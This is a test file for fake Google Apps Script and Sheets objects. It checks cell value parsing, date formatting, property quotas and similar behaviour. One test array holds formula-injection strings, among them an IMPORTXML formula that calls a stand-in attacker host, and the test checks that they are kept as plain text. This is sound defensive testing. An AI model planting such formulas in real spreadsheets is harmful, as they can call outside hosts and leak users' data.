/** The fakes' own contract: each behaviour the add-on relies on, pinned to how Apps Script and Sheets behave. */
import { describe, expect, it } from 'vitest';
import { CallLog, FakeHtmlOutput, FakeSheet, formatDate } from './index.js';
import { createAppsScript } from './index.js';
import { literalInput } from '../../../shared/cells/literal-text.js';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

const sheetWith = () => new FakeSheet('S', new CallLog(), 10, 5);

describe('writing values', () => {
  it.each([
    ['=1+1', 'General', { value: '#FORMULA', formula: '=1+1' }],
    ['=1+1', '@', { value: '=1+1', formula: '' }],
    ['+1', 'General', { value: 1, formula: '' }],
    ['-5', 'General', { value: -5, formula: '' }],
    ['-5', '@', { value: '-5', formula: '' }],
    ["'=1", 'General', { value: '=1', formula: '' }],
    ['@SUM(A1)', '@', { value: '@SUM(A1)', formula: '' }],
    ['TRUE', 'General', { value: true, formula: '' }],
    ['TRUE', '@', { value: 'TRUE', formula: '' }],
  ])('stores %j written into a %s cell as %j', (text, format, expected) => {
    const sheet = sheetWith();
    sheet.getRange(1, 1).setNumberFormat(format).setValue(text);
    expect({ value: sheet.cellAt(1, 1).value, formula: sheet.cellAt(1, 1).formula }).toEqual(expected);
  });

  // setValue reads a string as typed: "If it begins with '=' it is interpreted as a formula"
  // (https://developers.google.com/apps-script/reference/spreadsheet/range#setValue(Object)); a leading apostrophe
  // marks typed input as text and is not part of the value ("if the user typed '123 into the UI, this would be
  // represented as a stringValue of "123"", https://developers.google.com/sheets/api/reference/rest/v4/spreadsheets/other#ExtendedValue);
  // a plain-text cell keeps input as typed ("@: ... insert the raw text", https://developers.google.com/sheets/api/guides/formats).
  it.each(["'=1+1", "'0012", "'2026-03-08", "'+1"])('stores %j written into a General cell as the text after the apostrophe', (typed) => {
    const sheet = sheetWith();
    sheet.getRange(1, 1).setValue(typed);
    expect({ value: sheet.cellAt(1, 1).value, formula: sheet.cellAt(1, 1).formula }).toEqual({ value: typed.slice(1), formula: '' });
  });

  it("keeps the apostrophe of \"'=1\" written into a plain-text cell: '@' takes input as typed", () => {
    const sheet = sheetWith();
    sheet.getRange(1, 1).setNumberFormat('@').setValue("'=1");
    expect(sheet.cellAt(1, 1).value).toBe("'=1");
  });

  const payloads = ['=IMPORTXML("https://evil.example","//a")', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '0012', '2026-03-08', "'quoted", 'TRUE'];
  it.each(['General', '@', 'yyyy-mm-dd hh:mm', '0.##'])(
    'keeps every formula-looking payload as exactly its text through literal input in a %s cell',
    (format) => {
      const sheet = new FakeSheet('S', new CallLog(), payloads.length, 1);
      const range = sheet.getRange(1, 1, payloads.length, 1);
      range.setNumberFormats(payloads.map(() => [format]));
      range.setValues(payloads.map((text) => [literalInput(text, format)]));
      expect(payloads.map((_, r) => [sheet.cellAt(r + 1, 1).value, sheet.cellAt(r + 1, 1).formula])).toEqual(payloads.map((text) => [text, '']));
    },
  );

  it.each([
    ['2026-03-02', 'General', new Date('2026-03-01T23:00:00Z')],
    ['2026-07-01 09:30', 'General', new Date('2026-07-01T07:30:00Z')],
    ['2026-07-01 09:30', '@', '2026-07-01 09:30'],
  ])('reads typed %s in a %s cell as the spreadsheet zone does', (text, format, expected) => {
    const sheet = sheetWith();
    sheet.getRange(1, 1).setNumberFormat(format).setValue(text);
    expect(sheet.getRange(1, 1).getValue()).toEqual(expected);
  });

  it('returns Date cells as fresh Date objects from getValues', () => {
    const sheet = sheetWith();
    const when = new Date('2026-03-02T08:00:00Z');
    sheet.getRange(1, 1).setValues([[when]]);
    const [[read]] = sheet.getRange(1, 1).getValues() as [[Date]];
    expect(read).toEqual(when);
    expect(read).not.toBe(when);
  });

  it('refuses a values array whose shape differs from the range', () => {
    expect(() =>
      sheetWith()
        .getRange(1, 1, 2, 2)
        .setValues([['a', 'b']]),
    ).toThrow('The number of rows in the data does not match the number of rows in the range. The data has 1 but the range has 2.');
  });

  it('refuses a range outside the sheet', () => {
    expect(() => sheetWith().getRange(10, 5, 2, 1)).toThrow('The coordinates of the range are outside the dimensions of the sheet.');
  });
});

// https://developers.google.com/apps-script/reference/spreadsheet/range#getDisplayValues(): the displayed text, formatting applied.
describe('reading displayed values', () => {
  it('gives text as typed, numbers and booleans as shown, and a day in the tracker format as that day', () => {
    const sheet = sheetWith();
    sheet.getRange(1, 1, 1, 4).setNumberFormats([['@', 'General', 'General', 'yyyy-mm-dd']]);
    sheet.getRange(1, 1, 1, 4).setValues([['0012', 42, true, new Date('2026-11-20T10:00:00Z')]]);
    expect(sheet.getRange(1, 1, 1, 4).getDisplayValues()).toEqual([['0012', '42', 'TRUE', '2026-11-20']]);
  });
});

describe("the person's moves", () => {
  it('gives inserted rows the formatting, not the contents, of their neighbour', () => {
    const sheet = sheetWith();
    sheet.getRange(2, 1).setNumberFormat('@').setValue('x');
    sheet.insertRowsAfter(2, 1);
    expect(sheet.cellAt(3, 1)).toMatchObject({ value: '', format: '@' });
    expect(sheet.size().rows).toBe(11);
  });

  it('sorts the rows below the frozen header and keeps each row whole', () => {
    const sheet = sheetWith();
    sheet.getRange(1, 1, 4, 2).setValues([
      ['Name', 'Id'],
      ['b', 2],
      ['c', 3],
      ['a', 1],
    ]);
    sheet.setFrozenRows(1);
    sheet.sort(1);
    expect(sheet.peekValues()).toEqual([
      ['Name', 'Id'],
      ['a', 1],
      ['b', 2],
      ['c', 3],
    ]);
  });

  it('shifts cells right when a column is inserted, hiding nothing', () => {
    const sheet = sheetWith();
    sheet.getRange(1, 1, 1, 2).setValues([['a', 'b']]);
    sheet.hideColumns(2);
    sheet.insertColumnsBefore(2, 1);
    expect(sheet.peekValues()).toEqual([['a', '', 'b']]);
    expect([sheet.isColumnHiddenByUser(2), sheet.isColumnHiddenByUser(3)]).toEqual([false, true]);
  });
});

describe('counting', () => {
  it('counts reads and writes by method', () => {
    const log = new CallLog();
    const sheet = new FakeSheet('S', log, 5, 5);
    sheet.getRange(1, 1, 2, 2).getValues();
    sheet.getRange(1, 1).setValue('x');
    sheet.getLastRow();
    expect([log.reads(), log.writes(), log.count('Sheet.getRange')]).toEqual([2, 1, 2]);
  });
});

describe('services', () => {
  it('lets only the menu through in AuthMode.NONE', () => {
    const fakes = createAppsScript({ bundleDir: '.', authMode: 'NONE' });
    const app = fakes.globals.SpreadsheetApp as { getUi(): unknown; getActiveSpreadsheet(): unknown };
    expect(app.getUi()).toBe(fakes.ui);
    expect(() => app.getActiveSpreadsheet()).toThrow('You do not have permission to call SpreadsheetApp.getActiveSpreadsheet');
  });

  // https://developers.google.com/apps-script/reference/html/html-output#append(String): appends unescaped content.
  it('appends content to an HtmlOutput as given, at the end', () => {
    const output = new FakeHtmlOutput('<p>a</p>').append('<b>x</b>');
    expect(output.getContent()).toBe('<p>a</p><b>x</b>');
  });

  // https://developers.google.com/apps-script/guides/html/best-practices#separate_html_css_and_javascript: the include
  // pattern, `createHtmlOutputFromFile(filename).getContent()`, gives a project file's content (its <script> tags too).
  it('gives a project HTML file back as written, script tags and all', () => {
    const dir = mkdtempSync(join(tmpdir(), 'nextround-html-'));
    writeFileSync(join(dir, 'screens.html'), '<script>window.x = "</div>";</script>\n');
    const { HtmlService } = createAppsScript({ bundleDir: dir }).globals as { HtmlService: { createHtmlOutputFromFile(name: string): FakeHtmlOutput } };
    expect(HtmlService.createHtmlOutputFromFile('screens').getContent()).toBe('<script>window.x = "</div>";</script>\n');
    expect(() => HtmlService.createHtmlOutputFromFile('missing')).toThrow();
  });

  // https://developers.google.com/apps-script/reference/utilities/utilities#base64Decode(String): a byte array (Java's signed Byte[]).
  it('decodes base64 into signed bytes, and refuses text that is not base64', () => {
    const utilities = createAppsScript({ bundleDir: '.' }).globals.Utilities as { base64Decode(text: string): number[] };
    expect(utilities.base64Decode('QcOp')).toEqual([0x41, 0xc3 - 256, 0xa9 - 256]);
    expect(() => utilities.base64Decode('not base64!')).toThrow('Could not decode string.');
  });

  it('refuses a document property over 9 KB', () => {
    const { documentProperties } = createAppsScript({ bundleDir: '.' });
    expect(() => documentProperties.setProperty('k', 'x'.repeat(9 * 1024 + 1))).toThrow('Argument too large: value');
  });

  // https://developers.google.com/apps-script/guides/services/quotas: "Properties total storage: 500 KB / property store".
  it('refuses a write that takes a property store over 500 KB, keeping what it held', () => {
    const { documentProperties } = createAppsScript({ bundleDir: '.' });
    const chunk = 'x'.repeat(8_000);
    for (let i = 0; i < 63; i++) documentProperties.setProperty(`k${i}`, chunk);
    expect(() => documentProperties.setProperties({ a: chunk, b: chunk })).toThrow('exceeded the property storage quota');
    expect(documentProperties.getKeys()).toHaveLength(63);
    documentProperties.setProperty('k0', 'small');
    expect(documentProperties.getProperties()).toMatchObject({ k0: 'small', k1: chunk });
  });

  it.each([
    ['2026-03-29T00:59:00Z', 'Europe/Berlin', 'yyyy-MM-dd HH:mm Z', '2026-03-29 01:59 +0100'],
    ['2026-03-29T01:00:00Z', 'Europe/Berlin', 'yyyy-MM-dd HH:mm Z', '2026-03-29 03:00 +0200'],
    ['2026-01-01T00:00:00Z', 'Asia/Kathmandu', 'Z', '+0545'],
    ['2026-01-01T12:00:00Z', 'America/St_Johns', 'yyyy-MM-dd HH:mm', '2026-01-01 08:30'],
    // Formats in the named IANA zone, as Java's SimpleDateFormat does (the reference Google cites:
    // developers.google.com/apps-script/reference/utilities/utilities#formatDate(Date,String,String)); 'Z' is RFC 822 ±hhmm.
    ['2026-03-08T06:59:00Z', 'America/New_York', 'yyyy-MM-dd HH:mm Z', '2026-03-08 01:59 -0500'],
    ['2026-03-08T07:00:00Z', 'America/New_York', 'yyyy-MM-dd HH:mm Z', '2026-03-08 03:00 -0400'],
    ['2026-10-03T15:29:00Z', 'Australia/Lord_Howe', 'yyyy-MM-dd HH:mm Z', '2026-10-04 01:59 +1030'],
    ['2026-10-03T15:30:00Z', 'Australia/Lord_Howe', 'yyyy-MM-dd HH:mm Z', '2026-10-04 02:30 +1100'],
    ['2026-09-26T14:15:00Z', 'Pacific/Chatham', 'yyyy-MM-dd HH:mm Z', '2026-09-27 04:00 +1345'],
  ])('formats %s in %s with %s as %s', (iso, zone, pattern, expected) => {
    expect(formatDate(new Date(iso), zone, pattern)).toBe(expected);
  });
});
